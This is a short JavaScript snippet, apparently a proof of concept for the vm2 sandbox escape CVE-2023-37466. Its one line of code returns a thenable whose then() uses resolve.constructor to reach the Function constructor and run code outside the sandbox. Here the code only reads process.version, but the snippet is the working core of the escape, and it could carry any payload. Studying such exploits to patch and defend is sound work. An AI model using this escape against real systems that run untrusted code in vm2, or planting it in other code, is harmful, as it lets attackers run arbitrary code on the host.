// A thenable gets the functions that resolve the result.
// Source: vm2, CVE-2023-37466.
return { then(resolve) { resolve(resolve.constructor("return process.version")()) } }
